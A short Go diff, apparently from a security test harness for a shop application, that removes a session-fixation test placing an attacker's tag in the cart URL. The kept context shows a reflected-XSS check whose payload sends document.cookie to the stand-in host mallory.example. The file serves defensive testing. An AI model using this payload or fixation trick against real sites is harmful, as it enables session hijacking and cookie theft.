@@ -118,15 +118,6 @@ func (s *Shop) Plant(ctx context.Context) (Look, error) {
 	return s.look(ctx, c, "")
 }
 
-// InAddress offers Mallory's own tag in the address instead of a cookie.
-func (s *Shop) InAddress(ctx context.Context) (Look, error) {
-	tag, _, err := s.MakeTag(ctx)
-	if err != nil {
-		return Look{}, err
-	}
-	return s.look(ctx, call{path: "/cart?sid=" + url.QueryEscape(tag)}, "")
-}
-
 // Script asks the shop's search for a script. Escaped reports whether the page shows it as text.
 func (s *Shop) Script(ctx context.Context) (e Exchange, escaped bool, err error) {
 	const script = `<script>new Image().src="//mallory.example?c="+document.cookie</script>`
